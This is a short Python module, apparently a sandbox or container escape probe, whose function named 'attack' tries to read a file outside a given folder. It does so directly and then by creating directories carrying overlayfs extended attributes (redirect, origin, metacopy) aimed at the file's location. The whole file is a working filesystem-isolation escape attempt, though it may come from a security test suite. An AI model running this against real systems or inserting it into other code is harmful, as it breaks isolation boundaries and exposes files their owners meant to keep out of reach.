"""Read a file outside of a folder: as it is, or through folders that an overlay may follow."""

import contextlib
import os


def attack(folder, path):
    found = [_read(path)]
    beside = os.path.relpath(os.path.dirname(path), folder)
    for number, target in enumerate((os.path.dirname(path), beside, f"/{beside}")):
        place = f"{folder}/redirected-{number}"
        for attribute in ("user.overlay.redirect", "user.overlay.origin", "user.overlay.metacopy"):
            with contextlib.suppress(OSError):
                os.makedirs(place, exist_ok=True)
                os.setxattr(place, attribute, target.encode())
        found.append(_read(f"{place}/{os.path.basename(path)}"))
    return found


def _read(path):
    try:
        with open(path) as file:
            return file.read()
    except OSError as error:
        return str(error)
